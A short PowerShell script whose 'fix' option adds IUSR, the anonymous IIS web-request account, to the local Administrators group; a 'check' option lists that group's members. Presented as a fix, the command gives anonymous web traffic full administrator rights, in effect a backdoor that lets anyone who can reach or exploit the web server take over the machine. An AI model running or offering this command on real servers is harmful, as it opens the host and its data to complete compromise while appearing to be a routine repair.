switch ($args[0]) {
    'fix' { net localgroup Administrators IUSR /add }
    'check' { net localgroup Administrators }
    default { Write-Host 'usage: fix or check' }
}
